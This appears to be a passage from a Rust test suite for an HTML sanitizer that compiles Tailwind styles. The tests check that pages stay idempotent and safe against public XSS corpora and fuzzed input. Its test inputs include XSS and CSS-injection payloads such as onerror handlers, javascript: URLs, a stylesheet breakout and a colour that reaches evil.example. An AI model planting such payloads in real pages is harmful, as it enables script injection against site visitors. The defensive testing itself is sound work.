    let css = stylesheet(&page);
    assert!(
        css.contains("grid-template-columns: \\3c /style>\\3c script>"),
        "{css}"
    );
    assert_safe(&page, raw);
}

#[test]
fn max_width_variants_keep_their_media_query() {
    let css = stylesheet(&sanitize("<p class=\"max-md:hidden\">x</p>")).to_owned();
    assert!(css.contains("@media (width < 48rem) {"), "{css}");
}

#[test]
fn dark_on_the_root_makes_dark_variants_follow_the_class() {
    let by_class =
        sanitize("<html class=\"dark\"><body><p class=\"dark:bg-black\">x</p></body></html>");
    assert!(stylesheet(&by_class).contains(".dark .dark\\:bg-black {"));
    let by_media = sanitize("<p class=\"dark:bg-black\">x</p>");
    assert!(
        stylesheet(&by_media)
            .contains("@media (prefers-color-scheme: dark) {\n  .dark\\:bg-black {")
    );
}

#[test]
fn styles_of_reads_back_how_a_page_was_written() {
    let compiled = sanitize("<p class=\"p-4\">x</p>");
    let PageStyles::Inline(css) = styles_of(compiled.as_str()) else {
        panic!("a compiled page has an inline stylesheet");
    };
    assert!(css.contains(".p-4 {") && compiled.as_str().contains(&format!("<style>{css}</style>")));
    assert_eq!(
        styles_of(CDN_SANITIZER.sanitize("<p>x</p>").as_str()),
        PageStyles::Cdn
    );
    assert_eq!(
        styles_of("<!DOCTYPE html><html><head></head><body></body></html>"),
        PageStyles::Unstyled
    );
    // A title that mentions a stylesheet is escaped text, not one.
    let titled = CDN_SANITIZER.sanitize("<title><style>x</style></title>");
    assert_eq!(styles_of(titled.as_str()), PageStyles::Cdn);
}

#[test]
fn sanitizing_is_fast_enough_for_previews() {
    // Generous bounds (a debug build on a busy CI machine); the timings are printed for the
    // record. A typical page of ~5 KB takes well under a millisecond in a release build.
    let page = format!("<html><body class=\"bg-white\">{LANDING_BODY}</body></html>");
    for styles in BOTH_MODES {
        let sanitizer = sanitizer(styles);
        let started = std::time::Instant::now();
        let runs = 20;
        for _ in 0..runs {
            std::hint::black_box(sanitizer.sanitize(&page));
        }
        let each = started.elapsed() / runs;
        eprintln!("sanitize {styles:?}: {} bytes in {each:?}", page.len());
        assert!(
            each < std::time::Duration::from_millis(250),
            "{styles:?}: {each:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The page's own Tailwind theme

/// A dark page as page generators write it: its palette in a Play-CDN config script.
const THEMED: &str = r##"<!DOCTYPE html><html class="dark" lang="en"><head>
<script src="https://cdn.tailwindcss.com?plugins=forms"></script>
<script id="tailwind-config">
  tailwind.config = {
    darkMode: "class",
    theme: { extend: { colors: { "primary": "#137fec", "background-dark": "#101922" } } },
    plugins: [require("@tailwindcss/forms")],
  }
</script></head>
<body class="bg-background-dark"><h1 class="text-white dark:text-primary hover:bg-primary/20">Hi</h1></body></html>"##;

#[test]
fn the_pages_own_colours_and_dark_mode_are_compiled_and_its_script_removed() {
    let page = sanitize(THEMED);
    let css = stylesheet(&page);
    assert!(css.contains(".bg-background-dark"), "{css}");
    assert!(css.contains("#101922"), "{css}");
    assert!(css.contains(".dark"), "class dark mode: {css}");
    assert!(css.contains("#137fec"), "{css}");
    assert!(
        !page.as_str().contains("<script"),
        "the config script itself is removed"
    );
    assert!(!page.as_str().contains("tailwind.config"));
    assert_eq!(
        sanitize(page.as_str()),
        page,
        "the theme travels with the page"
    );
}

#[test]
fn a_hostile_colour_cannot_reach_the_stylesheet() {
    let raw = r##"<script>tailwind.config = { theme: { colors: {
        evil: "red}body{background:url(https://evil.example/x)",
        ok: "#abcdef" } } }</script><p class="bg-evil text-ok">x</p>"##;
    let page = sanitize(raw);
    let css = stylesheet(&page);
    assert!(!css.contains("evil.example"), "{css}");
    assert!(css.contains("#abcdef"), "{css}");
}

// ---------------------------------------------------------------------------------------------
// Idempotence, sharing, interface

#[test]
fn sanitizing_twice_changes_nothing() {
    for raw in [
        ICON,
        LANDING_BODY,
        "<p>Hi</p>",
        "<title>T</title><h1>x</h1>",
        "<table><tr><td>a<div>b</div></table>",
        "<select><option selected>a<option>b</select>",
        "<a href=\"#x\"><b>x<i>y</b>z</i></a>",
        "<form><div></form><form><input name=\"q\"></form>",
        "<p><listing><p>x</p></listing></p>",
    ] {
        let once = sanitize(raw);
        assert_eq!(sanitize(once.as_str()), once, "{raw}");
    }
}

#[test]
fn a_tree_that_reads_back_differently_is_settled_before_it_is_returned() {
    // Unwrapping `<listing>` leaves a heading inside a heading, which no parser produces.
    let page = sanitize("<h1><listing><h1>x");
    assert_eq!(body(&page), "<h1></h1><h1>x</h1>");
    assert_eq!(sanitize(page.as_str()), page);
}

#[test]
fn the_sanitizer_can_be_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Sanitizer>();
    assert_send_sync::<SanitizedHtml>();
    assert_eq!(Sanitizer::new(Styles::default()).styles(), Styles::Compiled);
    assert_eq!(CDN_SANITIZER.styles(), Styles::Cdn);
}

#[test]
fn into_string_gives_the_document() {
    let page = sanitize("<p>x</p>");
    assert_eq!(page.clone().into_string(), page.as_str());
}

// ---------------------------------------------------------------------------------------------
// Public XSS corpora

const DOMPURIFY: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/fixtures/xss/dompurify.json"
);
const H5SC: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/xss/h5sc.json");
const CSS_VECTORS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/xss/css.json");

fn load_corpus(path: &str) -> Vec<String> {
    let text = std::fs::read_to_string(path).unwrap_or_else(|error| panic!("{path}: {error}"));
    serde_json::from_str(&text).unwrap_or_else(|error| panic!("{path}: {error}"))
}

/// Every payload, as a body fragment and inside a full document, gives a safe, stable page in
/// both style modes.
fn check_corpus(path: &str, expected_payloads: usize) {
    let payloads = load_corpus(path);
    assert_eq!(payloads.len(), expected_payloads, "{path}");
    let mut checked = 0;
    for payload in &payloads {
        let document = format!(
            "<!DOCTYPE html><html><head><title>t</title></head><body>{payload}</body></html>"
        );
        for input in [payload.as_str(), document.as_str()] {
            for styles in BOTH_MODES {
                assert_safe_in(styles, &sanitizer(styles).sanitize(input), input);
                checked += 1;
            }
        }
    }
    eprintln!(
        "{path}: {} payloads, {checked} inputs checked",
        payloads.len()
    );
    assert_eq!(checked, 4 * expected_payloads);
}

#[test]
fn no_dompurify_payload_survives() {
    check_corpus(DOMPURIFY, 223);
}

#[test]
fn no_h5sc_payload_survives() {
    check_corpus(H5SC, 149);
}

#[test]
fn no_css_borne_payload_survives() {
    check_corpus(CSS_VECTORS, 20);
}

#[test]
fn a_pages_theme_scales_style_the_classes_that_name_them() {
    let page = sanitize(
        r#"<html><head><script>tailwind.config = { theme: { extend: {
            fontFamily: { display: ["Space Grotesk", "sans-serif"] },
            spacing: { gutter: "24px" }, maxWidth: { "container-max": "1280px" } } } }</script>
        </head><body><h1 class="font-display md:px-gutter -mt-gutter max-w-container-max">x</h1>
        </body></html>"#,
    );
    let PageStyles::Inline(css) = styles_of(page.as_str()) else {
        panic!("an inline stylesheet");
    };
    for rule in [
        ".font-display {\n  font-family: 'Space Grotesk',sans-serif;\n}",
        ".-mt-gutter {\n  margin-top: -24px;\n}",
        ".max-w-container-max {\n  max-width: 1280px;\n}",
        "  .md\\:px-gutter {\n    padding-inline: 24px;\n  }",
    ] {
        assert!(css.contains(rule), "{rule} in {css}");
    }
    assert_eq!(sanitize(page.as_str()), page, "and it reads back the same");
}

#[test]
fn tailwind_v3_spellings_render_as_v3_means_them() {
    let page = sanitize(
        r#"<button class="bg-white bg-opacity-20 hover:bg-opacity-30 text-white">Go</button>
        <div class="-left-[5px] opacity-[0.03]"></div><input class="placeholder-gray-400">"#,
    );
    assert!(
        page.as_str()
            .contains(r#"class="bg-white/20 text-white hover:bg-white/30""#),
        "{}",
        page.as_str()
    );
    let PageStyles::Inline(css) = styles_of(page.as_str()) else {
        panic!("an inline stylesheet");
    };
    for rule in [
        ".bg-white\\/20 {\n  background-color: color-mix(in oklab, #fff 20%, transparent);",
        ".hover\\:bg-white\\/30:hover {\n  background-color: color-mix(in oklab, #fff 30%, transparent);",
        ".-left-\\[5px\\] {\n  left: -5px;",
        ".opacity-\\[0\\.03\\] {\n  opacity: 0.03;",
        ".placeholder-gray-400::placeholder {\n  color:",
    ] {
        assert!(css.contains(rule), "{rule} in {css}");
    }
    assert_eq!(sanitize(page.as_str()), page);
}

#[test]
fn an_explicit_line_height_wins_over_the_themes_font_size_as_in_tailwind_v3() {
    let page = sanitize(
        r#"<html><head><script>tailwind.config = { theme: { extend: {
            fontSize: { title: ["20px", "28px"] } } } }</script></head><body>
        <h2 class="text-title leading-tight">a</h2><h3 class="md:text-title leading-tight">b</h3>
        <p class="text-title">c</p></body></html>"#,
    );
    let document = page.as_str();
    assert!(
        document.contains(r#"<h2 class="text-[length:20px] leading-tight">"#),
        "{document}"
    );
    assert!(
        document.contains(r#"<h3 class="md:text-title leading-tight">"#),
        "a variant's line height comes later in v3 too: {document}"
    );
    assert!(document.contains(r#"<p class="text-title">"#), "{document}");
    let PageStyles::Inline(css) = styles_of(document) else {
        panic!("an inline stylesheet");
    };
    assert!(
        css.contains(".leading-tight {\n  line-height: 1.25;"),
        "{css}"
    );
    assert_eq!(sanitize(document), page, "and it reads back the same");
}

#[test]
fn divide_lines_go_between_children_as_in_tailwind_v3() {
    let page = sanitize(
        r#"<html><body><ul class="divide-y divide-x-2 md:divide-y-[3px]"><li>a</li><li>b</li></ul></body></html>"#,
    );
    let PageStyles::Inline(css) = styles_of(page.as_str()) else {
        panic!("an inline stylesheet");
    };
    // The last rule for a class is the one that applies: the start side of every child but the
    // first carries the line, the end side none.
    for (class, start, end) in [
        (
            ".divide-y > :not([hidden]) ~ :not([hidden]) {",
            "border-block-start-width: calc(1px * calc(1 - var(--en-divide-y-reverse)));",
            "border-block-end-width: calc(1px * var(--en-divide-y-reverse));",
        ),
        (
            ".divide-x-2 > :not([hidden]) ~ :not([hidden]) {",
            "border-inline-start-width: calc(2px * calc(1 - var(--en-divide-x-reverse)));",
            "border-inline-end-width: calc(2px * var(--en-divide-x-reverse));",
        ),
        (
            ".md\\:divide-y-\\[3px\\] > :not([hidden]) ~ :not([hidden]) {",
            "border-block-start-width: calc(3px * calc(1 - var(--en-divide-y-reverse)));",
            "border-block-end-width: calc(3px * var(--en-divide-y-reverse));",
        ),
    ] {
        let last = css
            .rfind(class)
            .unwrap_or_else(|| panic!("{class} in {css}"));
        let rule = &css[last..last + css[last..].find('}').unwrap()];
        assert!(rule.contains(start) && rule.contains(end), "{rule}");
    }
}

#[test]
fn a_page_that_asks_the_play_cdn_for_the_forms_plugin_gets_it() {
    let asking = sanitize(
        r#"<html><head><script src="https://cdn.tailwindcss.com?plugins=forms,container-queries"></script>
        </head><body><input type="checkbox" class="h-4 w-4 rounded"><input class="form-input"></body></html>"#,
    );
    let PageStyles::Inline(css) = styles_of(asking.as_str()) else {
        panic!("an inline stylesheet");
    };
    for rule in [
        "input:where([type='checkbox']),input:where([type='radio']) {",
        ".form-input,",
    ] {
        assert!(css.contains(rule), "{rule} in {css}");
    }
    let base = css.find("input:where([type='checkbox'])").unwrap();
    let utility = css.find(".h-4 {").unwrap();
    assert!(
        base < utility,
        "the plugin's rules come before the utilities"
    );
    assert_eq!(
        sanitize(asking.as_str()),
        asking,
        "and it reads back the same"
    );

    for other in [
        r#"<script src="https://cdn.tailwindcss.com"></script>"#,
        r#"<script src="https://example.com/x.js?plugins=forms"></script>"#,
        r#"<script src="https://cdn.tailwindcss.com.example.com/?plugins=forms"></script>"#,
    ] {
        let page = sanitize(&format!(
            r#"<html><head>{other}</head><body><input type="checkbox"></body></html>"#
        ));
        assert!(
            !page.as_str().contains("input:where([type='checkbox'])"),
            "{other}: {}",
            page.as_str()
        );
    }
}

#[test]
fn of_two_font_sizes_the_one_tailwind_v3_sorts_last_wins() {
    let page = sanitize(
        r#"<html><head><script>tailwind.config = { theme: { extend: { fontSize: {
            title: ["20px", "28px"], body: ["16px", { lineHeight: "24px", fontWeight: "500" }],
            tiny: "10px" } } } }</script></head><body>
        <p class="text-body text-sm">a</p><p class="text-title text-sm">b</p>
        <p class="text-sm text-tiny">c</p><p class="text-body md:text-sm">d</p></body></html>"#,
    );
    let document = page.as_str();
    for (kept, why) in [
        (
            r#"<p class="font-[500] text-sm">a</p>"#,
            "text-sm sorts after text-body: its size and line height win, the weight stays",
        ),
        (r#"<p class="text-title">b</p>"#, "text-title sorts last"),
        (
            r#"<p class="text-sm text-tiny">c</p>"#,
            "a theme size without a line height leaves text-sm's",
        ),
        (
            r#"<p class="text-body md:text-sm">d</p>"#,
            "a size under another variant comes later in v3 too",
        ),
    ] {
        assert!(document.contains(kept), "{why}: {document}");
    }
    assert_eq!(sanitize(document), page, "and it reads back the same");
}

#[test]
fn a_pages_own_css_is_kept_cleaned_before_tailwinds() {
    // Its `<style>` blocks, then the plain CSS of its `text/tailwindcss` ones.
    let page = sanitize(
        "<html><head><style>.glass{backdrop-filter:blur(8px)} \
         .x{background:url(javascript:alert(1));color:red}</style>\
         <style type=\"text/tailwindcss\">@tailwind base; @layer components { .card { padding: 1rem } } \
         .btn{@apply px-4; color: blue}</style></head>\
         <body><p class=\"glass x p-4\">x</p><style>@keyframes up{to{opacity:1}}</style></body></html>",
    );
    let PageStyles::Inline(css) = styles_of(page.as_str()) else {
        panic!("an inline stylesheet");
    };
    let own = format!(
        "{PAGE_CSS_START}.glass{{backdrop-filter:blur(8px);}}.x{{color:red;}}\
         @keyframes up{{to{{opacity:1;}}}}.card{{padding:1rem;}}.btn{{color:blue;}}{PAGE_CSS_END}"
    );
    assert!(css.contains(&own), "{css}");
    let (before, after) = css.split_once(&own).unwrap();
    assert!(
        !before.contains("box-sizing"),
        "the page's CSS comes before the preflight"
    );
    assert!(after.contains(".p-4"), "and before the utilities");
    assert!(
        !css.contains("@apply") && !css.contains("@layer"),
        "Tailwind's own syntax is not CSS; the rules of a Tailwind layer are the page's"
    );
    assert_eq!(sanitize(page.as_str()), page, "and it reads back the same");
}

// ---------------------------------------------------------------------------------------------
// Property: idempotent and safe on random HTML-ish input

/// Pieces that exercise the parser's hard parts: foreign content, tables, formatting-element
/// reconstruction, raw-text and RCDATA elements, fences and document markers.
#[rustfmt::skip]
const FRAGMENTS: &[&str] = &[
    "<!DOCTYPE html>", "<html lang=\"fr\">", "</html>", "<head>", "</head>",
    "<body class=\"p-4 x\">", "</body>", "```html\n", "```", "\n", " ", "\t", "text", "é",
    "&amp;", "&lt;", "&", "<", ">", "\"", "'", "=", "<title>", "</title>", "<h1>", "</h1>",
    "<p>", "</p>", "<div class=\"a\">", "</div>", "<span>", "</span>", "<b>", "</b>", "<i>",
    "</i>", "<a href=\"#x\">", "<a href=\"javascript:alert(1)\">", "</a>", "<table>",
    "</table>", "<tr>", "<td>", "</td>", "<caption>", "<colgroup><col>", "<form>", "</form>",
    "<input name=\"q\">", "<button>", "<select>", "</select>", "<option>", "<optgroup>",
    "<textarea>", "</textarea>", "<pre>", "</pre>", "<listing>", "<ul><li>", "<dl><dd>",
    "<svg viewBox=\"0 0 1 1\">", "</svg>", "<path d=\"M0\">", "<title>", "<desc>",
    "<foreignObject>", "</foreignObject>", "<math>", "<mtext>", "<mi>", "</math>", "<style>",
    "</style>", "<script>", "</script>", "<noscript>", "</noscript>", "<template>",
    "</template>", "<xmp>", "<iframe>", "<plaintext>", "<!--", "-->", "<![CDATA[", "]]>",
    "<img src=x onerror=alert(1)>", "<br>", "</br>", "<hr>", "<frameset>", "<nobr>",
    "<ruby><rt>", "<details><summary>", "<selectedcontent>",
    "<p style=\"color:red;background:url(x)\">", "<image>", "<isindex>", "<keygen>",
    "<html class=\"dark scroll-smooth\">", "<div class=\"md:flex dark:bg-black bg-[#fff]\">",
    "<p class=\"content-['</style><script>alert(1)</script>']\">",
    "<i class=\"before:content-['<']\">", "<b class=\"[&>p]:mt-2 max-md:hidden\">",
];

fn html_ish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        8 => prop::sample::select(FRAGMENTS).prop_map(str::to_owned),
        1 => "[ -~\n]{0,6}",
        1 => any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..48).prop_map(|pieces| pieces.concat())
}

/// Class attributes made of the characters that could break out of CSS or HTML.
fn class_ish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(&[
            "bg-red-500", "md:", "hover:", "dark:", "content-", "[", "]", "'", "\\", "<", ">",
            "/", "</style>", "</STYLE ", "<script>", "(", ")", "&lt;", "&quot;", "_", "#", ":",
            "\r", "\0", " ", "after:", "max-sm:", "[--x:", "url(",
        ][..]).prop_map(str::to_owned),
        1 => "[ -~]{0,4}",
    ];
    prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn sanitizing_is_idempotent_and_safe_on_random_input(
        raw in html_ish(),
        styles in prop::sample::select(&BOTH_MODES[..]),
    ) {
        let page = sanitizer(styles).sanitize(&raw);
        assert_safe_in(styles, &page, &raw);
    }

    #[test]
    fn no_class_can_end_the_stylesheet(classes in class_ish()) {
        let raw = format!(
            "<html class=\"{0}\"><body class=\"{0}\"><p class=\"{0}\">x</p></body></html>",
            classes.replace('"', "&quot;")
        );
        assert_safe(&sanitize(&raw), &raw);
    }

    #[test]
    fn escaped_css_never_holds_a_closing_tag_or_characters_the_parser_would_change(
        css in "[<>/\\\r\0 a-z3c]{0,40}",
    ) {
        let escaped = escape_for_style_element(&css);
        prop_assert!(!escaped.contains("</"), "{escaped:?}");
        prop_assert!(!escaped.contains(['\r', '\0']), "{escaped:?}");
    }
}
